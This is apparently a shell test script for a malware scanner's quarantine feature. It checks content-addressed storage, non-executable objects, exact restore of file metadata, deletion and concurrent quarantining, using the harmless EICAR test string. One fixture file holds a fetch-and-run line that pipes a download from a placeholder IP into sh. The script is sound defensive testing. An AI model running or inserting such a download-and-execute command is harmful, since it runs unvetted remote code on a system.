#!/bin/sh
# analyze --quarantine and airlock quarantine list|show|restore|delete: content-addressed,
# never executable, metadata in SQLite; restore is bit-exact with mode, times and xattrs (and
# owner as root); two analyzers quarantining at the same time lose nothing.
. "$AIRLOCK_SRC/tests/lib.sh"

store=$TEST_TMPDIR/store
src=$TEST_TMPDIR/src
mkdir -p "$src"
eicar() { printf '%s%s' 'X5O!P%@AP[4\PZX54(P^)7CC)' '7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'; }
eicar >"$src/eicar.com"
printf '#!/bin/sh\ncurl -s http://198.51.100.7/x | sh\n' >"$src/get.sh"
chmod 755 "$src/get.sh"
echo "nothing to see" >"$src/fine.txt"
chmod 640 "$src/eicar.com"
touch -d '2020-01-02 03:04:05.123456789' "$src/eicar.com"
python3 -c 'import os,sys; os.setxattr(sys.argv[1], "user.origin", b"mail from x@example.org")' "$src/eicar.com" 2>/dev/null &&
        xattr=1 || xattr=0
sum=$(sha256sum "$src/eicar.com" | cut -d' ' -f1)
touch -d '2020-01-02 03:04:05.123456789' "$src/eicar.com"
before=$(stat -c '%a %Y %X %s %u %g' "$src/eicar.com")

expect_status "analyze-quarantine-exit-1" 1 "$AIRLOCK" analyze --quarantine "$store" "$src"
[ -e "$src/eicar.com" ] || [ -e "$src/get.sh" ] && fail "quarantined-files-moved" "still in place" || pass "quarantined-files-moved"
[ -e "$src/fine.txt" ] && pass "clean-file-left-alone" || fail "clean-file-left-alone" "moved"
obj=$store/objects/$(echo "$sum" | cut -c1-2)/$sum
if [ -f "$obj" ] && [ "$(sha256sum "$obj" | cut -d' ' -f1)" = "$sum" ]; then
        pass "content-addressed-object"
else
        fail "content-addressed-object" "$obj missing or wrong"
fi
if [ -z "$(find "$store/objects" -type f -perm /111)" ] && [ "$(stat -c %a "$obj")" = 400 ]; then
        pass "objects-never-executable"
else
        fail "objects-never-executable" "$(find "$store/objects" -type f -perm /111 | head -3)"
fi
expect_grep "list-shows-both" 'malicious.*eicar.com' "$AIRLOCK" quarantine --store "$store" list
id=$("$AIRLOCK" quarantine --store "$store" list --json | python3 -c '
import json,sys
print(next(e["id"] for e in json.load(sys.stdin) if e["original_path"].endswith("eicar.com")))')
expect_grep "show-has-report-and-metadata" '"rule":"eicar_test_file"|"rule": "eicar_test_file"' "$AIRLOCK" quarantine --store "$store" show "$id"
expect_grep "show-has-mode" '"mode":"0640"|"mode": "0640"' "$AIRLOCK" quarantine --store "$store" show "$id"

expect_status "restore" 0 "$AIRLOCK" quarantine --store "$store" restore "$id"
after=$(stat -c '%a %Y %X %s %u %g' "$src/eicar.com" 2>/dev/null)
[ "$(sha256sum <"$src/eicar.com" | cut -d' ' -f1)" = "$sum" ] && pass "restore-bit-exact" || fail "restore-bit-exact" "content differs"
[ "$before" = "$after" ] && pass "restore-mode-times-owner" || fail "restore-mode-times-owner" "before '$before' after '$after'"
[ "$(stat -c %y "$src/eicar.com")" = "2020-01-02 03:04:05.123456789 +0000" ] && pass "restore-nanosecond-mtime" || fail "restore-nanosecond-mtime" "$(stat -c %y "$src/eicar.com")"
if [ "$xattr" = 1 ]; then
        got=$(python3 -c 'import os,sys; print(os.getxattr(sys.argv[1], "user.origin").decode())' "$src/eicar.com" 2>&1)
        [ "$got" = "mail from x@example.org" ] && pass "restore-xattrs" || fail "restore-xattrs" "$got"
else
        skip "restore-xattrs" "the file system of TEST_TMPDIR has no user xattrs"
fi
expect_status "restore-gone-from-list" 0 sh -c "! \"$AIRLOCK\" quarantine --store \"$store\" list | grep -q eicar.com"
expect_status "restore-refuses-to-overwrite" 2 sh -c "\"$AIRLOCK\" analyze --quarantine \"$store\" \"$src/eicar.com\" >/dev/null; eicar() { :; }; cp \"$obj\" \"$src/eicar.com\" 2>/dev/null; chmod 600 \"$src/eicar.com\"; \"$AIRLOCK\" quarantine --store \"$store\" restore \$(\"$AIRLOCK\" quarantine --store \"$store\" list --json | python3 -c 'import json,sys; print(max(e[\"id\"] for e in json.load(sys.stdin)))')"
rm -f "$src/eicar.com"

gid=$("$AIRLOCK" quarantine --store "$store" list --json | python3 -c '
import json,sys
print(next(e["id"] for e in json.load(sys.stdin) if e["original_path"].endswith("get.sh")))')
gsum=$("$AIRLOCK" quarantine --store "$store" show "$gid" | python3 -c 'import json,sys; print(json.load(sys.stdin)["sha256"])')
expect_status "delete" 0 "$AIRLOCK" quarantine --store "$store" delete "$gid"
[ ! -e "$store/objects/$(echo "$gsum" | cut -c1-2)/$gsum" ] && pass "delete-removes-unused-object" || fail "delete-removes-unused-object" "object still there"
expect_status "delete-unknown-id-exit-2" 2 "$AIRLOCK" quarantine --store "$store" delete 999999

# two analyzers at once, 60 files each, 20 of them with the same content in both
c=$TEST_TMPDIR/conc
store2=$TEST_TMPDIR/store2
python3 - "$c" <<'PY'
import os, sys
c = sys.argv[1]
E = ("X5O!P%@AP[4\\PZX54(P^)7CC)" + "7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*").encode()
for side in "ab":
    os.makedirs(os.path.join(c, side))
    for i in range(60):
        body = E + (b"\n# shared %d\n" % i if i < 20 else b"\n# %s %d\n" % (side.encode(), i))
        open(os.path.join(c, side, "s%02d.com" % i), "wb").write(body)
PY
"$AIRLOCK" analyze --quiet --quarantine "$store2" "$c/a" >"$TEST_TMPDIR/a.out" 2>&1 &
pa=$!
"$AIRLOCK" analyze --quiet --quarantine "$store2" "$c/b" >"$TEST_TMPDIR/b.out" 2>&1 &
pb=$!
wait $pa
ra=$?
wait $pb
rb=$?
[ "$ra" = 1 ] && [ "$rb" = 1 ] && pass "concurrent-analyzers-exit-1" || fail "concurrent-analyzers-exit-1" "exit $ra/$rb: $(head -c 300 "$TEST_TMPDIR/a.out" "$TEST_TMPDIR/b.out")"
left=$(find "$c" -type f | wc -l)
"$AIRLOCK" quarantine --store "$store2" list --json >"$TEST_TMPDIR/list.json"
python3 - "$TEST_TMPDIR/list.json" "$store2" "$left" <<'PY'
import hashlib, json, os, sys
entries = json.load(open(sys.argv[1]))
store = sys.argv[2]
missing = [e["original_path"] for e in entries
           if not os.path.exists(os.path.join(store, "objects", e["sha256"][:2], e["sha256"]))
           or hashlib.sha256(open(os.path.join(store, "objects", e["sha256"][:2], e["sha256"]), "rb").read()).hexdigest() != e["sha256"]]
ok = len(entries) == 120 and not missing and sys.argv[3] == "0"
print(("PASS: concurrent-quarantine-loses-nothing (120 entries, %d objects)" % len(set(e["sha256"] for e in entries))) if ok else
      "FAIL: concurrent-quarantine-loses-nothing: %d entries, %s files left, missing objects %s" % (len(entries), sys.argv[3], missing[:3]))
PY

# The default store is the one airlock watch fills; reading a store never makes one.
D=$TEST_TMPDIR/defaults
mkdir -p "$D/dl"
expect_output "list: the default store not made yet lists nothing" "" \
        env -u AIRLOCK_QUARANTINE HOME="$D" XDG_DATA_HOME="$D/share" "$AIRLOCK" quarantine list
printf '%s%s' 'X5O!P%@AP[4\PZX54(P^)7CC)' '7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*' >"$D/dl/e.com"
env -u AIRLOCK_QUARANTINE HOME="$D" XDG_DATA_HOME="$D/share" "$AIRLOCK" watch --once "$D/dl" >/dev/null 2>&1
expect_grep "list: without --store, the store watch filled" "malicious .*$D/dl/e.com" \
        env -u AIRLOCK_QUARANTINE HOME="$D" XDG_DATA_HOME="$D/share" "$AIRLOCK" quarantine list
expect_status "list: a --store that does not exist is an error" 2 \
        "$AIRLOCK" quarantine --store "$D/no-such-store" list
[ ! -e "$D/no-such-store" ] && pass "list: a --store that does not exist is not created" ||
        fail "list: a --store that does not exist is not created" "$(ls -la "$D/no-such-store")"
expect_status "watch: a --quarantine whose folder does not exist is an error" 2 \
        "$AIRLOCK" watch --once --quarantine "$D/x/y/q" "$D/dl"
[ ! -e "$D/x" ] && pass "watch: no tree of folders is made for a mistyped --quarantine" ||
        fail "watch: no tree of folders is made for a mistyped --quarantine" "$(find "$D/x")"
